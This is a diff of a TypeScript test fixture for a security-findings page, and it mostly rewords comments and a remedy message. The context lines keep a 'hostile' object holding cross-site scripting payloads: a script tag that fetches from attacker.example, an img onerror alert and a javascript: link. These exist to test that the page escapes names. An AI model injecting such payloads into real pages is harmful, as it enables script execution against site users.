@@ -1,4 +1,5 @@
-/** What the fake sidecar of the page's tests answers: findings of an ordinary day, and names as an attacker would choose them. */
+/** The answers of the fake sidecar in the page's tests: findings of an ordinary day, and names as an attacker would choose
+ * them. */
 import type {
   FindingPage,
   FindingRow,
@@ -16,7 +17,7 @@ import type { Explanation } from '../../../src/sigma/index.ts';
 export const at = Math.floor(Date.now() / 60_000) * 60_000;
 const iso = (time: number) => new Date(time).toISOString().replace('.000Z', 'Z');
 
-/** Names that would be more than a name if any of them were read as HTML, as a link, or as the text around it. */
+/** Names that would have an effect if any of them were read as HTML, as a link, or as the surrounding text. */
 export const hostile = {
   html: '<img src=x onerror=alert(1)><script>fetch("http://attacker.example/")</script>',
   link: 'javascript:alert(document.domain)',
@@ -370,7 +371,7 @@ export function nowOf(rows: readonly FindingRow[], isQuiet = false): Now {
           {
             code: 'rules.refused',
             message: 'my-rules/pod-in-default.yml:14: the condition names selektion, which is not there.',
-            remedy: 'Correct the file; the set before stays live.',
+            remedy: 'Correct the file; the previous set stays live.',
             since: iso(at - 500_000),
           },
           {
